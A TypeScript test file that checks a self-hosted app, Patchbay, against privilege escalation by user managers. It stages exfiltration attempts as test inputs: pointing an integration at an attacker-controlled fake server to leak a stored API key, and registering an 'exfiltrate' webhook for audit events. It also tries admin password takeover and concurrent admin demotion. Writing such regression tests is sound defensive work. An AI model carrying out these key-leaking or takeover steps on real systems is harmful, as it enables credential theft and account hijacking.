import { Client as McpClient } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { resolveCaller } from "../../src/services/auth.js";
import * as groups from "../../src/services/groups.js";
import { errorOf, makeClient, startPatchbay, type Client, type TestServer } from "../helpers/patchbay.js";
import { startArr, type ArrEmulator } from "../../src/kinds/arr-family/emulator.js";
import { startFakeServer, type FakeServer } from "../../src/kinds/testing/server.js";

/**
 * Issue #10, privilege escalation: nobody gives anyone — themselves included — a permission they do not hold,
 * nor takes away the last admin. Each attack below worked on the build the issue was filed against.
 */

let s: TestServer;
let sonarr: ArrEmulator;
let thief: FakeServer;
const KEY = "escalation-sonarr-key-5c1d";
const mcpClients: McpClient[] = [];
let adminApiKey: string;

beforeAll(async () => {
  [s, sonarr, thief] = await Promise.all([
    startPatchbay(),
    startArr({ app: "Sonarr", apiKey: KEY }),
    // A server the attacker controls: it records what Patchbay sends it.
    startFakeServer((_req, res) => void res.writeHead(404).end()),
  ]);
  adminApiKey = (await s.admin.auth.createApiKey.mutate({ name: "race" })).token;
});
afterAll(async () => {
  await Promise.all(mcpClients.map((c) => c.close()));
  await Promise.all([s?.close(), sonarr?.close(), thief?.close()]);
});

async function login(username: string, password: string): Promise<{ status: number; client: Client; cookie: string }> {
  const res = await fetch(`${s.url}/api/trpc/auth.login`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ json: { username, password } }),
  });
  const cookie = res.headers.get("set-cookie")?.split(";")[0] ?? "";
  return { status: res.status, client: makeClient(s.url, { cookie }), cookie };
}
const passwordOf = (username: string) => `pw-${username}-secret`;

async function sonarrIntegration(): Promise<string> {
  const r = await s.admin.integration.create.mutate({ name: `Sonarr ${Math.random().toString(36).slice(2, 6)}`, kind: "sonarr", url: sonarr.url, secrets: [{ kind: "apiKey", value: KEY }] });
  if ("error" in r) throw new Error(r.error.message);
  return r.id;
}
const adminsGroup = async () => (await s.admin.group.list.query()).find((g) => g.name === "admins")!;
const keyLeaked = () => thief.requests.some((r) => JSON.stringify(r).includes(KEY));

async function mcpCall(apiKey: string, name: string, args: Record<string, unknown>) {
  const client = new McpClient({ name: "escalation-test", version: "1.0.0" });
  await client.connect(new StreamableHTTPClientTransport(new URL(`${s.url}/api/mcp`), { requestInit: { headers: { ApiKey: apiKey } } }));
  mcpClients.push(client);
  const result = (await client.callTool({ name, arguments: args })) as { isError?: boolean; content: { text: string }[] };
  return { isError: Boolean(result.isError), text: result.content[0]!.text };
}

describe("groups: a user manager controls only groups within their own rights", () => {
  it("cannot delete the admins group (the only admin would lose admin)", async () => {
    const manager = await s.user(["user-manage"]);
    const admins = await adminsGroup();
    const err = await errorOf(manager.client.group.delete.mutate({ id: admins.id }));
    expect(err.code).toBe("FORBIDDEN");
    expect(err.message).toMatch(/"admins".*"admin"/);
    expect((await s.admin.group.byId.query({ id: admins.id })).members.map((m) => m.id)).toContain(s.adminId);
    expect((await s.admin.auth.session.query())!.user.permissions).toContain("admin");
  });

  it("cannot join a group with `full` on an integration and send its stored key to their own server (tRPC, REST, MCP)", async () => {
    const id = await sonarrIntegration();
    const team = await s.admin.group.create.mutate({ name: "media-team" });
    await s.admin.integration.saveGroupIntegrationPermissions.mutate({ entityId: id, permissions: [{ principalId: team.id, permission: "full" }] });
    const manager = await s.user(["user-manage"]);

    const join = await errorOf(manager.client.group.addMember.mutate({ groupId: team.id, userId: manager.id }));
    expect(join.code).toBe("FORBIDDEN");
    expect(join.message).toMatch(/"media-team".*"full".*1 integration\(s\) you cannot see/);
    // Nor can they give the group a permission, take a member out of it, or delete it (that too changes who holds what).
    for (const p of [
      () => manager.client.group.savePermissions.mutate({ groupId: team.id, permissions: [] }),
      () => manager.client.group.removeMember.mutate({ groupId: team.id, userId: s.adminId }),
      () => manager.client.group.delete.mutate({ id: team.id }),
    ]) {
      expect((await errorOf(p())).code).toBe("FORBIDDEN");
    }
    expect((await s.admin.group.byId.query({ id: team.id })).members).toEqual([]);

    // So the stored key stays out of reach over every surface.
    expect((await errorOf(manager.client.integration.testConnection.mutate({ id, url: thief.url }))).code).toBe("NOT_FOUND");
    const rest = await fetch(`${s.url}/api/integrations/test`, {
      method: "POST",
      headers: { ApiKey: manager.apiKey, "content-type": "application/json" },
      body: JSON.stringify({ id, url: thief.url }),
    });
    expect(rest.status).toBe(404);
    const mcp = await mcpCall(manager.apiKey, "testConnection", { id, url: thief.url });
    expect(mcp).toMatchObject({ isError: true });
    expect(mcp.text).toMatch(/^NOT_FOUND/);
    expect(keyLeaked()).toBe(false);

    // The same path is real: a member the admin added does reach the integration (and may point it anywhere).
    const member = await s.user([]);
    await s.admin.group.addMember.mutate({ groupId: team.id, userId: member.id });
    expect(await member.client.integration.testConnection.mutate({ id, url: sonarr.url })).toMatchObject({ ok: true });
  });

  it("a user manager who holds what a group grants (and `full` on its integrations) may change it", async () => {
    const manager = await s.user(["user-manage", "integration-full-all"]);
    const id = await sonarrIntegration();
    const g = await s.admin.group.create.mutate({ name: "full-on-one" });
    await s.admin.integration.saveGroupIntegrationPermissions.mutate({ entityId: id, permissions: [{ principalId: g.id, permission: "full" }] });
    const plain = await s.user([]);
    await manager.client.group.addMember.mutate({ groupId: g.id, userId: plain.id });
    await manager.client.group.savePermissions.mutate({ groupId: g.id, permissions: ["integration-use-all", "user-manage"] });
    // Granting more than they hold is still refused, with what is missing named.
    const err = await errorOf(manager.client.group.savePermissions.mutate({ groupId: g.id, permissions: ["app-create"] }));
    expect(err).toMatchObject({ code: "FORBIDDEN" });
    expect(err.message).toMatch(/"app-create"/);
    await manager.client.group.removeMember.mutate({ groupId: g.id, userId: plain.id });
    await manager.client.group.delete.mutate({ id: g.id });
    expect((await errorOf(s.admin.group.byId.query({ id: g.id }))).code).toBe("NOT_FOUND");
  });
});

describe("users: password resets and deletion only for users whose access is within the caller's", () => {
  it("a user manager cannot reset an admin's password (and then log in as admin)", async () => {
    const manager = await s.user(["user-manage"]);
    const err = await errorOf(manager.client.user.changePassword.mutate({ userId: s.adminId, newPassword: "taken-over-admin-1" }));
    expect(err.code).toBe("FORBIDDEN");
    expect(err.message).toMatch(/"admin"/);
    expect((await login("admin", "taken-over-admin-1")).status).toBe(401);
    expect((await login("admin", "admin-password-1")).status).toBe(200);
  });

  it("nor the password of a user with access to an integration the manager lacks", async () => {
    const manager = await s.user(["user-manage"]);
    const holder = await s.user([]);
    const id = await sonarrIntegration();
    await s.admin.integration.saveUserIntegrationPermissions.mutate({ entityId: id, permissions: [{ principalId: holder.id, permission: "use" }] });
    const err = await errorOf(manager.client.user.changePassword.mutate({ userId: holder.id, newPassword: "taken-over-user-1" }));
    expect(err.code).toBe("FORBIDDEN");
    expect(err.message).toMatch(/more access than you.*cannot see/);
    expect((await errorOf(manager.client.user.delete.mutate({ id: holder.id }))).code).toBe("FORBIDDEN");
    expect((await login(holder.username, passwordOf(holder.username))).status).toBe(200);
  });

  it("resetting a plain user's password ends every session of that user", async () => {
    const manager = await s.user(["user-manage"]);
    const plain = await s.user([]);
    const a = await login(plain.username, passwordOf(plain.username));
    const b = await login(plain.username, passwordOf(plain.username));
    expect((await a.client.auth.session.query())?.user.id).toBe(plain.id);
    await manager.client.user.changePassword.mutate({ userId: plain.id, newPassword: "reset-by-manager-1" });
    expect(await a.client.auth.session.query()).toBeNull();
    expect(await b.client.auth.session.query()).toBeNull();
    expect((await login(plain.username, passwordOf(plain.username))).status).toBe(401);
    expect((await login(plain.username, "reset-by-manager-1")).status).toBe(200);
  });

  it("changing one's own password ends one's other sessions and keeps this one", async () => {
    const u = await s.user([]);
    const here = await login(u.username, passwordOf(u.username));
    const elsewhere = await login(u.username, passwordOf(u.username));
    await here.client.user.changePassword.mutate({ currentPassword: passwordOf(u.username), newPassword: "my-own-new-password" });
    expect((await here.client.auth.session.query())?.user.id).toBe(u.id);
    expect(await elsewhere.client.auth.session.query()).toBeNull();
  });

  it("a user manager cannot delete an admin; deleting a plain user works", async () => {
    const manager = await s.user(["user-manage"]);
    const err = await errorOf(manager.client.user.delete.mutate({ id: s.adminId }));
    expect(err.code).toBe("FORBIDDEN");
    expect(err.message).toMatch(/"admin"/);
    expect((await s.admin.auth.session.query())?.user.id).toBe(s.adminId);
    const plain = await s.user([]);
    await manager.client.user.delete.mutate({ id: plain.id });
    expect((await errorOf(s.admin.user.byId.query({ id: plain.id }))).code).toBe("NOT_FOUND");
  });
});

describe("the audit log and notification targets stay with admins (tRPC, REST, MCP)", () => {
  it("a user manager with integration-full-all cannot read the log, nor add a target that would receive every audit event", async () => {
    const manager = await s.user(["user-manage", "integration-full-all"]);
    const before = (await s.admin.notification.list.query()).length;
    const target = { name: "exfiltrate", type: "webhook", url: `${thief.url}/audit`, events: ["audit"] };
    expect((await errorOf(manager.client.notification.create.mutate(target as never))).code).toBe("FORBIDDEN");
    const rest = await fetch(`${s.url}/api/notifications`, { method: "POST", headers: { ApiKey: manager.apiKey, "content-type": "application/json" }, body: JSON.stringify(target) });
    expect(rest.status).toBe(403);
    expect((await s.admin.notification.list.query()).length).toBe(before);

    expect((await errorOf(manager.client.audit.list.query({}))).code).toBe("FORBIDDEN");
    expect((await fetch(`${s.url}/api/audit`, { headers: { ApiKey: manager.apiKey } })).status).toBe(403);
    const mcp = await mcpCall(manager.apiKey, "audit_list", {});
    expect(mcp).toMatchObject({ isError: true });
    expect(mcp.text).toMatch(/^FORBIDDEN/);
    // What they may read: the history of integrations they fully manage (here: all, through integration-full-all).
    const id = await sonarrIntegration();
    expect((await mcpCall(manager.apiKey, "audit_integration", { integrationId: id })).isError).toBe(false);
    // A change they make is recorded under their own name, and nothing reached the attacker's server.
    await manager.client.group.create.mutate({ name: "audited-manager-group" });
    const last = (await s.admin.audit.list.query({ actorId: manager.id, action: "group.create" })).items[0];
    expect(last).toMatchObject({ actor: { type: "apiKey", id: manager.id }, target: { type: "group", name: "audited-manager-group" } });
    expect(thief.requests.filter((r) => JSON.stringify(r).includes("/audit"))).toEqual([]);
  });
});

describe("the last admin", () => {
  it("cannot be demoted, removed from the last admin-granting group, or have that group deleted — not even by themselves", async () => {
    const admins = await adminsGroup();
    // Another group grants admin too, but has no members: it does not keep anyone admin.
    const spare = await s.admin.group.create.mutate({ name: "spare-admins" });
    await s.admin.group.savePermissions.mutate({ groupId: spare.id, permissions: ["admin"] });
    for (const p of [
      () => s.admin.group.removeMember.mutate({ groupId: admins.id, userId: s.adminId }),
      () => s.admin.group.savePermissions.mutate({ groupId: admins.id, permissions: ["user-manage"] }),
      () => s.admin.group.delete.mutate({ id: admins.id }),
    ]) {
      const err = await errorOf(p());
      expect(err.code).toBe("FORBIDDEN");
      expect(err.message).toMatch(/without an admin/);
    }
    expect((await s.admin.auth.session.query())!.user.permissions).toContain("admin");
    // With a second admin, the first may step down.
    await s.admin.group.addMember.mutate({ groupId: spare.id, userId: (await s.user([], "second-admin")).id });
    await s.admin.group.savePermissions.mutate({ groupId: admins.id, permissions: ["admin", "user-manage"] });
    await s.admin.group.delete.mutate({ id: spare.id });
  });

  it("two admins demoting each other at the same time: one succeeds, an admin remains", async () => {
    const admins = await adminsGroup();
    for (let round = 0; round < 5; round++) {
      const other = await s.user([], `rival${round}`);
      await s.admin.group.addMember.mutate({ groupId: admins.id, userId: other.id });
      // Both requests are authorised (each caller still holds admin) before either writes: the race window.
      const [a, b] = await Promise.all([
        resolveCaller(s.deps.db, { apiKey: adminApiKey }),
        resolveCaller(s.deps.db, { apiKey: other.apiKey }),
      ]);
      expect([a.permissions.has("admin"), b.permissions.has("admin")]).toEqual([true, true]);
      const results = await Promise.allSettled([
        groups.removeMember(s.deps, a, admins.id, other.id),
        groups.removeMember(s.deps, b, admins.id, s.adminId),
      ]);
      expect(results.filter((r) => r.status === "fulfilled")).toHaveLength(1);
      const refused = results.find((r) => r.status === "rejected") as PromiseRejectedResult;
      expect(refused.reason.message).toMatch(/without an admin/);
      const members = (await s.deps.db.selectFrom("groupMembers").select("userId").where("groupId", "=", admins.id).execute()).map((m) => m.userId);
      expect(members.length).toBe(1);
      if (members[0] !== s.adminId) {
        // The rival won: give the admin back their membership for the next round.
        await other.client.group.addMember.mutate({ groupId: admins.id, userId: s.adminId });
        await s.admin.group.removeMember.mutate({ groupId: admins.id, userId: other.id });
      }
      await s.admin.user.delete.mutate({ id: other.id });
    }
  });
});
